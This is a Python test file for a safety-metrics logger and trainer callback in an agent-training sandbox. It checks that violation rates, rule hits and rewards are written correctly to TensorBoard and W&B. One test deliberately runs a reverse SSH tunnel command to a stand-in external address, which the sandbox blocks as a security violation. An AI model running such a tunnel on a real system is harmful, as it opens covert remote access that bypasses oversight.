"""corral.observe.trainer_log: safety metrics per training step, written to TensorBoard (read back from
the event files) and W&B, and SafetyCallback collecting the rollouts CorralTRLEnv scores."""

from __future__ import annotations

import importlib.util
import sys
import types
from types import SimpleNamespace

import pytest
from tbevents import read_scalars

from corral import RuntimeConfig
from corral.agent.engine import Outcome
from corral.agent.tasks import Task
from corral.agent.trajectory import Trajectory, Violation
from corral.envs import CorralTRLSplitEnv, corral_safety_reward
from corral.errors import EpisodeEnded
from corral.observe.trainer_log import SafetyLogger, safety_metrics
from corral.sync import SyncRuntime


def _traj(reason: str, reward: dict[str, float], rules: list[tuple[str, str]] = (), score: float | None = None):
    return Trajectory(
        episode_id=f"e-{reason}", task_id="t", sandbox_id="s", policy="p", messages=[], tools=[], steps=[],
        reward=sum(reward.values()), reward_components=reward, terminated=True, truncated=False,
        termination_reason=reason, metrics={}, started=0.0, finished=1.0,
        verifier={} if score is None else {"score": score},
        violations=[Violation(finding_id=i, rule=r, title=r, severity=s, action="record")
                    for i, (r, s) in enumerate(rules)])


BATCH = [
    _traj("submitted", {"verifier": 1.0, "safety": 0.0}, score=1.0),
    _traj("submitted", {"verifier": 0.5, "safety": -0.25}, [("no-sleep", "low"), ("shell-profile-write", "medium")],
          score=0.5),
    _traj("security_violation", {"verifier": 0.0, "safety": -1.0}, [("ssh-tunnel", "high"), ("no-sleep", "low")]),
    _traj("max_steps", {"verifier": 0.0, "safety": 0.0}, score=0.0),
]


def test_metrics_of_a_batch():
    m = safety_metrics(BATCH)
    assert m == {
        "corral/episodes": 4.0, "corral/violation_rate": 0.25, "corral/finding_rate": 0.5,
        "corral/findings_per_episode": 1.0, "corral/pass_rate": 0.25,
        "corral/reward/mean": pytest.approx(0.0625), "corral/reward/task_mean": 0.375,
        "corral/reward/safety_mean": pytest.approx(-0.3125),
        "corral/rule/no-sleep": 0.5, "corral/rule/shell-profile-write": 0.25, "corral/rule/ssh-tunnel": 0.25,
        "corral/severity/high": 0.25, "corral/severity/low": 0.5, "corral/severity/medium": 0.25,
        "corral/termination/max_steps": 0.25, "corral/termination/security_violation": 0.25,
        "corral/termination/submitted": 0.5}
    # the same from trajectories as dicts (JSONL lines) and from the engine's Outcome (what TRL's envs score)
    assert safety_metrics([t.model_dump(mode="json") for t in BATCH]) == m
    outcomes = [Outcome(observation="", reward=t.reward, reward_components=t.reward_components,
                        termination_reason=t.termination_reason, verifier=t.verifier or None,
                        violations=[v.model_dump() for v in t.violations]) for t in BATCH]
    assert safety_metrics(outcomes) == m
    assert safety_metrics([]) == {} and set(safety_metrics(BATCH[:1], prefix="safety.")) >= {"safety.episodes"}


def test_tensorboard_scalars_per_step(tmp_path):
    with SafetyLogger(tmp_path / "tb") as logger:
        assert logger.log(BATCH, step=1)["corral/violation_rate"] == 0.25
        # a step whose batch has no finding: the rules and reasons seen before are written as 0
        logger.log(BATCH[:1], step=2)
        assert logger.log([], step=3) == {}  # nothing to log: nothing written
    s = read_scalars(tmp_path / "tb")
    assert s["corral/violation_rate"] == [(1, 0.25), (2, 0.0)]
    assert s["corral/rule/ssh-tunnel"] == [(1, 0.25), (2, 0.0)]
    assert s["corral/severity/critical"] == [(1, 0.0), (2, 0.0)]  # every severity, always
    assert s["corral/termination/security_violation"] == [(1, 0.25), (2, 0.0)]
    assert s["corral/reward/safety_mean"] == [(1, -0.3125), (2, 0.0)]
    assert s["corral/reward/task_mean"] == [(1, 0.375), (2, 1.0)]
    assert s["corral/episodes"] == [(1, 4.0), (2, 1.0)]


class _Run:
    def __init__(self) -> None:
        self.logged: list[tuple[dict, dict]] = []
        self.finished = False

    def log(self, data: dict, **kw: object) -> None:
        self.logged.append((data, kw))

    def finish(self) -> None:
        self.finished = True


def test_wandb_runs_given_or_started(monkeypatch):
    # a run the trainer or the caller owns: its own step counter is left alone, the step goes in train/global_step
    run = _Run()
    logger = SafetyLogger(wandb=run)
    logger.log(BATCH, step=5)
    logger.close()
    ((data, kw),) = run.logged
    assert kw == {} and data["train/global_step"] == 5 and data["corral/violation_rate"] == 0.25
    assert not run.finished

    # wandb=True with no active run: one is started with wandb_init's arguments, logged at the step, finished
    started: list[dict] = []
    fake = types.ModuleType("wandb")
    fake.run = None
    fake.init = lambda **kw: started.append(kw) or run
    monkeypatch.setitem(sys.modules, "wandb", fake)
    run.logged.clear()
    with SafetyLogger(wandb=True, wandb_init={"project": "p", "mode": "offline"}) as logger:
        logger.log(BATCH, step=2)
    assert started == [{"project": "p", "mode": "offline"}]
    assert run.logged[0][1] == {"step": 2} and "train/global_step" not in run.logged[0][0] and run.finished
    fake.run = active = _Run()  # an active run (report_to="wandb") is used as is
    SafetyLogger(wandb=True).log(BATCH, step=3)
    assert active.logged[0][0]["train/global_step"] == 3 and len(started) == 1


@pytest.mark.skipif(importlib.util.find_spec("wandb") is None, reason="wandb is not installed (an optional extra)")
def test_wandb_offline(tmp_path, monkeypatch):
    monkeypatch.setenv("WANDB_MODE", "offline")
    monkeypatch.setenv("WANDB_SILENT", "true")
    with SafetyLogger(wandb=True, wandb_init={"mode": "offline", "dir": str(tmp_path), "project": "corral"}) as lg:
        lg.log(BATCH, step=1)
        lg.log(BATCH[:1], step=2)
        run = lg._wandb_run
        assert run.summary["corral/violation_rate"] == 0.0 and run.summary["corral/rule/ssh-tunnel"] == 0.0
    assert list(tmp_path.glob("wandb/offline-run-*"))


TASK = Task.model_validate({
    "id": "calc", "instruction": "Write add(a, b) in /workspace/calc.py.",
    "verifier": {"command": "python3 -c \"import sys; sys.path.append('/workspace'); import calc; "
                            "raise SystemExit(0 if calc.add(2, 3) == 5 else 1)\"",
                 "score": "exit_code"}, "limits": {"max_steps": 4}})


def test_safety_callback_logs_the_rollouts_scored_in_each_step(world, tmp_path):
    from transformers import TrainerCallback

    from corral.observe.trainer_log import SafetyCallback

    callback = SafetyCallback(tensorboard=tmp_path / "tb")
    assert isinstance(callback, TrainerCallback)
    with SyncRuntime(RuntimeConfig(state_dir=tmp_path / "s", hosts=world.hosts, system_dns=False)) as rt:
        try:
            good, bad = CorralTRLSplitEnv([TASK], runtime=rt), CorralTRLSplitEnv([TASK], runtime=rt)
            good.reset(task_id="calc")
            good.write_file("/workspace/calc.py", "def add(a, b):\n    return a + b\n")
            good.submit()
            bad.reset(task_id="calc")
            with pytest.raises(EpisodeEnded):
                bad.shell("ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7")
            assert corral_safety_reward(environments=[good, bad]) == [0.0, -1.0]  # TRL scores step 1's batch
            state = SimpleNamespace(global_step=1, is_world_process_zero=True)
            callback.on_step_end(None, state, None)
            state.global_step = 2  # no generation in this step: nothing new, nothing written
            callback.on_step_end(None, state, None)
            good.reset(task_id="calc")
            corral_safety_reward(environments=[good])  # unsubmitted, nothing written: graded 0
            state.global_step = 3
            callback.on_train_end(None, state, None)
        finally:
            callback.close()
    assert [step for step, _ in callback.history] == [1, 3]
    s = read_scalars(tmp_path / "tb")
    assert s["corral/violation_rate"] == [(1, 0.5), (3, 0.0)]
    assert s["corral/rule/ssh-tunnel"] == [(1, 0.5), (3, 0.0)]
    assert s["corral/reward/task_mean"] == [(1, 0.5), (3, 0.0)]
    assert s["corral/termination/unsubmitted"] == [(3, 1.0)]
    assert s["corral/pass_rate"] == [(1, 0.5), (3, 0.0)]
